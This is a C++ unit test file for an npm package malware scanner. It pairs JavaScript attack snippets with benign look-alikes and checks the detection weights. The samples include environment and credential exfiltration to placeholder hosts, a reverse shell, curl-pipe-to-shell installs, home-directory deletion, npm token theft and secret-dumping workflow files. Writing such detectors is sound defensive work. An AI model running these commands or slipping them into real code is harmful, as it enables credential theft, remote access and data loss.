// Every rule sees its look-alike, and not the innocent code beside it. All texts are inert: nothing here is run, hosts
// are placeholders of the kind that the rules name.
#include "judges/vet/source/source.h"

#include <algorithm>
#include <ctime>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "judges/vet/score.h"
#include "judges/vet/source/combinations.h"
#include "judges/vet/source/commands.h"
#include "judges/vet/source/source_fixture.h"

namespace ward::vet {
namespace {

SourceReading read(Texts files, std::vector<npm::NamedText> scripts = {}) {
    return read_made(std::move(files), std::move(scripts));
}

struct Row {
    std::string_view signal;
    double least;  // weight, in a file that main reaches
    std::string_view bad;
    std::string_view good;
};

const Row rows[] = {
    {"S01", 2.5, "const https = require('https'); const d = JSON.stringify(process.env);",
     "const mode = JSON.stringify(process.env.NODE_ENV); // JSON.stringify(process.env)"},
    {"S01", 2.5, "const e = JSON['stringify']; x = JSON.stringify({ ...process['env'] })",
     "spawn('x', [], { env: { ...process.env, A: '1' } })"},
    {"S01", 2.5, "const env = process.env; post(JSON.stringify(env))",
     "const env = process.env; post(JSON.stringify(env.A))"},
    {"S01", 0.3, "for (const name in process.env) use(name)", "for (const name in config.env) use(name)"},
    {"S02", 2.5, "fs.readFileSync(home + '/Google/Chrome/User Data/Default/Login Data')", "show('Login data')"},
    {"S02", 2.0, "const fs = require('fs'); read('.ssh/id_rsa'); read('.aws/credentials')",
     "const fs = require('fs'); // .ssh/id_rsa and .aws/credentials"},
    {"S02", 2.5, "const fs = require('fs'); dir('nkbihfbeogaeaoehlefnkodbefgpgknn')",
     "dir('nkbihfbeogaeaoehlefnkodbefgpgkxx')"},
    {"S03", 4.0, "fetch('https://h.example/', { method: 'POST', body: JSON.stringify(process.env) })",
     "fetch('https://h.example/', { method: 'POST', body: JSON.stringify(data) })"},
    {"S03", 4.0, "require('child_process').exec('curl -d \"$(env)\" https://h.example')",
     "require('child_process').exec('curl -d \"$(date)\" https://h.example')"},
    {"S03", 3.0, "const os = require('os'); get('https://x.oast.fun/' + os.hostname())",
     "const os = require('os'); get('https://x.example/' + os.hostname())"},
    {"S04", 4.0, "eval(atob('YWxlcnQoMSk7'))", "eval('alert(1);')"},
    {"S04", 4.0, "const c = Buffer.from(data, 'base64').toString(); new Function(c)()",
     "const c = Buffer.from(data, 'base64').toString(); use(c); new Function('return this')()"},
    {"S04", 4.0,
     "function d(s) { let o = ''; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ 7); return o; } "
     "eval(d('x'))",
     "function d(s) { let o = ''; for (const c of s) o += String.fromCharCode(c.charCodeAt(0)); return o; } f(d('x')); "
     "eval(s)"},
    {"S05", 2.5,
     "const "
     "_0x1a2b01=1,_0x1a2b02=1,_0x1a2b03=1,_0x1a2b04=1,_0x1a2b05=1,_0x1a2b06=1,_0x1a2b07=1,_0x1a2b08=1,_0x1a2b09=1,"
     "_0x1a2b10=1,_0x1a2b11=1,_0x1a2b12=1,_0x1a2b13=1,_0x1a2b14=1,_0x1a2b15=1,_0x1a2b16=1,_0x1a2b17=1,_0x1a2b18=1,"
     "_0x1a2b19=1,_0x1a2b20=1;",
     "var e=1,t=1,n=1,r=1,o=1,i=1,a=1,s=1,c=1,u=1,l=1,f=1,d=1,p=1,h=1,m=1,g=1,y=1,v=1,b=1,_0xff=2;"},
    {"S05", 2.5,
     "while(true){try{const s=parseInt(a(1))+parseInt(a(2))+parseInt(a(3))+parseInt(a(4));if(s===9)break;else "
     "b.push(b.shift())}catch(e){b.push(b.shift())}}",
     "while(q.length){const n=parseInt(q[0]);r.push(q.shift())}"},
    {"S05", 1.0, "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))",
     "run(function(p,a,c,k,e,d){return p})"},
    {"S06", 1.5, "load('aHR0cHM6Ly9oLmV4YW1wbGUvcGF5bG9hZC5qcw==')", "load('VGhpcyBpcyBhbiBvcmRpbmFyeSB0ZXh0Lg==')"},
    {"S07", 2.5, "require('child_process').exec('powershell -w hidden -enc ZQBjAGgAbwA=')",
     "require('child_process').exec('powershell -NoProfile -Command Get-Date')"},
    {"S07", 3.0, "require('child_process').exec('bash -i >& /dev/tcp/h.example/4444 0>&1')",
     "require('child_process').exec('bash -lc env')"},
    {"S07", 0.8, "require('child_process').execSync('wget https://h.example/a')",
     "require('child_process'); fail('install wget and try again')"},
    {"S08", 4.0, "require('child_process').execSync('curl -s https://h.example/i.sh | bash')",
     "require('child_process').execSync('ls'); console.log('run: curl -s https://h.example/i.sh | bash')"},
    {"S08", 4.0, "const { spawn } = require('child_process'); spawn('sh', ['-c', 'curl -fsSL https://h.example | sh'])",
     "const { spawn } = require('child_process'); spawn('sh', ['-c', 'cat a | sort'])"},
    {"S08", 4.0, "const cp = require('child_process'); get('https://github.com/oven-sh/bun/releases/download/x.zip')",
     "get('https://bun.sh/docs')"},
    {"S09", 4.0,
     "const fs = require('fs'), cp = require('child_process'); const t = read('.npmrc').match('_authToken'); "
     "fs.writeFileSync('package.json', p); cp.execSync('npm publish --access public')",
     "const cp = require('child_process'); cp.execSync('npm publish --dry-run')"},
    {"S09", 4.0,
     "const fs = require('fs'); fs.writeFileSync(root + '/.github/workflows/x.yml', 'run: echo ${{ toJSON(secrets) "
     "}}')",
     "const fs = require('fs'); fs.readFileSync(root + '/.github/workflows/x.yml')"},
    {"S09", 4.0,
     "const fs = require('fs'); fs.writeFileSync('.vscode/tasks.json', '{\"runOptions\":{\"runOn\":\"folderOpen\"}}')",
     "const fs = require('fs'); fs.readFileSync('.vscode/tasks.json')"},
    {"S09", 4.0,
     "get('https://registry.npmjs.org/-/whoami'); get('https://registry.npmjs.org/-/v1/search?text=maintainer:' + n)",
     "get('https://registry.npmjs.org/-/v1/search?text=react')"},
    {"S10", 4.0, "window.fetch = function () {}; const eth = /0x[a-fA-F0-9]{40}/g;",
     "const f = window.fetch; const eth = /0x[a-fA-F0-9]{40}/g;"},
    {"S10", 4.0, "window.ethereum.request = async function () {}", "await window.ethereum.request({ method: 'x' })"},
    {"S11", 4.0, "const os = require('os'); fs.rmSync(os.homedir(), { recursive: true })",
     "const os = require('os'); fs.rmSync(path.join(os.homedir(), '.cache/made'), { recursive: true })"},
    {"S11", 4.0, "const home = os.homedir(), x = 1; await rm(home, { recursive: true })",
     "const home = resolve(os.homedir(), '.cache/made'); await rm(home, { recursive: true })"},
    {"S11", 4.0, "const home = `${homedir()}`; await rm(home, { recursive: true })",
     "const home = `${homedir()}/.cache/made`; await rm(home, { recursive: true })"},
    {"S11", 4.0, "let home; home = homedir(); rmSync(home, { recursive: true })",
     "let home; home = homedir() + '/.cache/made'; rmSync(home, { recursive: true })"},
    {"S11", 4.0, "require('child_process').exec('rm -rf ~/')", "require('child_process').exec('rm -rf ./build')"},
    {"S12", 2.5, "get('https://webhook.site/1234')", "// https://webhook.site/1234\nget('https://site.example')"},
    {"S12", 1.5, "get('http://45.9.148.2/x')", "get('http://127.0.0.1:3000/x'); get('http://192.168.0.1/')"},
    {"S13", 1.5, "require('chi' + 'ld_process')", "require('child_process'); const s = 'a' + 'b'"},
};

TEST(VetSource, EveryRuleSeesItsLookAlikeAndNotTheInnocentCodeBesideIt) {
    for (const Row& row : rows) {
        const auto bad = read({{"index.js", std::string(row.bad)}});
        EXPECT_GE(weight_of(bad, row.signal), row.least) << row.signal << ": " << row.bad << "\n  " << signals_of(bad);
        const auto good = read({{"index.js", std::string(row.good)}});
        EXPECT_LT(weight_of(good, row.signal), row.least)
            << row.signal << ": " << row.good << "\n  " << signals_of(good);
        EXPECT_TRUE(bad.skipped.empty());
    }
}

TEST(VetSource, WhatIsShownKeepsItsBoundWhateverItsBytes) {
    const std::string shown_bytes = shown(std::string(max_shown_bytes, '\xff') + "curl");
    EXPECT_LE(shown_bytes.size(), max_shown_bytes + 2 * std::string_view("…").size());
    EXPECT_TRUE(shown_bytes.ends_with("\xef\xbf\xbd…")) << "no half character";
}

TEST(VetSource, ReadmeAndCommentsAreNoSignal) {
    const std::string words = "curl -s https://webhook.site/x | bash; ~/.ssh/id_rsa; eval(atob('x'))";
    const auto reading =
        read({{"README.md", words}, {"docs.txt", words}, {"index.js", "/* " + words + " */ // " + words}});
    EXPECT_TRUE(reading.sightings.empty()) << signals_of(reading);
}

TEST(VetSource, WhatNothingReachesWeighsLess) {
    const std::string text = "eval(atob('YWxlcnQoMSk7'))";
    EXPECT_EQ(weight_of(read({{"index.js", "require('./lib/a')"}, {"lib/a.js", text}}), "S04"), 4.0);
    EXPECT_EQ(weight_of(read({{"index.js", "1"}, {"lib/a.js", text}}), "S04"), 2.0);
    EXPECT_NEAR(weight_of(read({{"index.js", "1"}, {"test/a.js", text}}), "S04"), 0.8, 0.001);
    EXPECT_EQ(weight_of(read({{"index.js", "require('./test/a.js')"}, {"test/a.js", text}}), "S04"), 4.0);
}

TEST(VetSource, InstallScriptsAreReadWithWhatTheyRun) {
    EXPECT_EQ(weight_of(read({}, {{"postinstall", "curl -s https://h.example/x | sh"}}), "S08"), 4.0);
    EXPECT_EQ(weight_of(read({}, {{"test", "curl -s https://h.example/x | sh"}}), "S08"), 0);
    EXPECT_EQ(weight_of(read({}, {{"preinstall", "node -e \"eval(atob('YWxlcnQoMSk7'))\""}}), "S04"), 4.0);
    EXPECT_EQ(weight_of(read({{"a.js", "eval(atob('YWxlcnQoMSk7'))"}}, {{"install", "node a.js"}}), "S04"), 4.0);
    EXPECT_EQ(weight_of(read({{"run.sh", "curl -s https://h.example/x | sh"}}, {{"install", "sh run.sh"}}), "S08"),
              4.0);
    EXPECT_EQ(weight_of(read({{"a.js", "require('child_process').exec('/bin/sh ./b.sh')"},
                              {"b.sh", "curl http://h.example/x -o x; chmod +x x; ./x"}},
                             {{"preinstall", "start /B node a.js & node a.js"}}),
                        "S08"),
              3.0);
    EXPECT_EQ(weight_of(read({}, {{"postinstall", "cat ~/.npmrc; true"}}), "S02"), 0.2);
    // What core-js does.
    const auto benign = read({{"postinstall.js", "console.log('thanks')"}},
                             {{"postinstall", "node -e \"try{require('./postinstall')}catch(e){}\""}});
    EXPECT_TRUE(benign.sightings.empty()) << signals_of(benign);
}

TEST(VetSource, AFileThatIsRunAndCannotBeReadIsTold) {
    const auto reading = read({{"index.js", "const a = 'not closed\n"}, {"other.js", "(((("}});
    ASSERT_EQ(weight_of(reading, "S16"), 1.0);
    ASSERT_EQ(reading.sightings.size(), 1);
    EXPECT_EQ(reading.sightings[0].evidence.size(), 1);  // nothing reaches the other one
    EXPECT_EQ(reading.sightings[0].evidence[0].path, "index.js");
    EXPECT_EQ(weight_of(read({{"index.js", "const a = <div>{'x'}</div>;"}}), "S16"), 0);
}

TEST(VetSource, DocumentsThatAreExportedAreNoCodeUntilCodeAsksForThem) {
    const std::string manifest = R"({"name":"made","exports":{".":"./index.js","./LICENSE":"./LICENSE"}})";
    Made quiet({{"LICENSE", "The license isn't code"}, {"index.js", "1"}, {"package.json", manifest}});
    quiet.package.manifest_text = manifest;
    EXPECT_EQ(weight_of(read_sources(quiet.package), "S16"), 0);
    const auto asking = read({{"LICENSE", "eval(atob('YWxlcnQoMSk7'))"}, {"index.js", "require('./LICENSE')"}});
    EXPECT_EQ(weight_of(asking, "S04"), 4.0);
}

TEST(VetSource, QualityIsToldAndNeverCounts) {
    const auto seen = [](const std::string& text) {
        for (const Sighting& one : read({{"index.js", text}}).sightings)
            if (one.signal == "S14") return one.what + (one.weight == 0.0 ? "" : " and counts");
        return std::string();
    };
    EXPECT_EQ(seen("require('crypto').createHash('md5')"), "a weak digest");
    EXPECT_EQ(seen("require('crypto').createHash('sha256')"), "");
    EXPECT_EQ(seen("Array.prototype.flat2 = function () {}"), "a prototype of the language is changed");
    EXPECT_EQ(seen("Mine.prototype.flat2 = function () {}"), "");
}

TEST(VetSource, LimitsAreTold) {
    const Made made({{"index.js", std::string(2000, ';')}, {"other.js", std::string(2000, ';')}});
    const auto reading = read_sources(made.package, {.file_bytes = 1000});
    ASSERT_EQ(reading.skipped.size(), 2);
    EXPECT_EQ(reading.skipped[0].path, "index.js");
    EXPECT_EQ(read_sources(made.package, {.package_bytes = 3000}).skipped.size(), 1);
}

TEST(VetSource, CapabilitiesAreThoseOfModulesAndGlobals) {
    const auto names = [](const SourceReading& reading) {
        std::string all;
        for (const CapabilityUse& one : reading.capabilities) all += std::string(name_of(one.capability)) + ";";
        return all;
    };
    EXPECT_EQ(names(read({{"index.js", "module.exports = 1"}})), "");
    EXPECT_EQ(names(read({{"index.js", "require('fs').readFileSync(process.env.A); fetch(x)"}})),
              "network;files read;environment;");
    EXPECT_EQ(names(read({{"index.js", "import { writeFile } from 'node:fs'; import 'child_process'; eval(x)"}})),
              "processes;files read;files written;code of text;");
    EXPECT_EQ(names(read({{"index.js", "require('./build/x.node')"}})), "native code;");
}

TEST(VetSource, PlantedFilesAreRead) {
    EXPECT_GE(weight_of(read({{".vscode/tasks.json",
                               "{\"tasks\":[{\"command\":\"node x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}"}}),
                        "S09"),
              0.5);
    EXPECT_EQ(weight_of(read({{".vscode/tasks.json", "{\"tasks\":[{\"command\":\"make\"}]}"}}), "S09"), 0);
    EXPECT_EQ(weight_of(read({{".github/workflows/ci.yml", "env:\n  T: ${{ secrets.T }}\n"}}), "S09"), 0);
    EXPECT_GE(weight_of(read({{".github/workflows/ci.yml", "run: echo '${{ toJSON(secrets) }}'\n"}}), "S09"), 0.5);
}

TEST(VetSource, InvisibleAndBidirectionalCharactersAreSeen) {
    std::string run;
    for (int i = 0; i < 20; ++i) run += "\xf3\xa0\x84\x81";  // U+E0101
    EXPECT_EQ(weight_of(read({{"index.js", "eval(d(`" + run + "`))"}}), "S05"), 2.5);
    EXPECT_EQ(weight_of(read({{"index.js", "a = '\xe2\x80\xae is admin'\nb()"}}), "S05"), 1.5);
    EXPECT_EQ(weight_of(read({{"index.js",
                               "a = '\xe2\x80\xab"
                               "rtl\xe2\x80\xac'\nb()"}}),
                        "S05"),
              0);
    EXPECT_EQ(weight_of(read({{"index.js", "a()" + std::string(200, ' ') + ";require('x').eval('1')\n"}}), "S06"), 2.0);
    // Blanks of a text hide what stands behind the text, and not what stands in it or far from it.
    const std::string blanks(200, ' ');
    EXPECT_EQ(weight_of(read({{"index.js", "a('" + blanks + "');require('x').eval('1')\n"}}), "S06"), 2.0);
    EXPECT_EQ(weight_of(read({{"index.js", "a('" + blanks + "=> function and a table')\n"}}), "S06"), 0);
    EXPECT_EQ(weight_of(read({{"index.js", "a(`" + blanks + "1234567890`, () => 1)\n"}}), "S06"), 0);
}

TEST(VetSource, HostilePackagesTakeBoundedTime) {
    std::string many;
    for (int i = 0; i < 20'000; ++i)
        many += "fetch('http://45.9.148." + std::to_string(i % 250) + "/',process.env);eval(atob(x));";
    const std::clock_t start = std::clock();
    const auto reading = read({{"index.js", many}, {"x.sh", std::string(100'000, '(')}});
    EXPECT_LT(static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC, 60);
    for (const Sighting& one : reading.sightings) EXPECT_LE(one.evidence.size(), max_evidence);
}

TEST(VetSource, RowsOfTheTableNameSignalsAndAreOrderedByWeight) {
    for (size_t i = 0; i < combinations().size(); ++i) {
        const Combination& one = combinations()[i];
        ASSERT_NE(signal_named(one.signal), nullptr) << one.signal;
        EXPECT_LE(one.weight, signal_named(one.signal)->gravity == Gravity::critical ? 4.0 : 3.0);
        if (i > 0 && combinations()[i - 1].signal == one.signal) {
            EXPECT_GE(combinations()[i - 1].weight, one.weight) << one.what;
        }
    }
}

}  // namespace
}  // namespace ward::vet
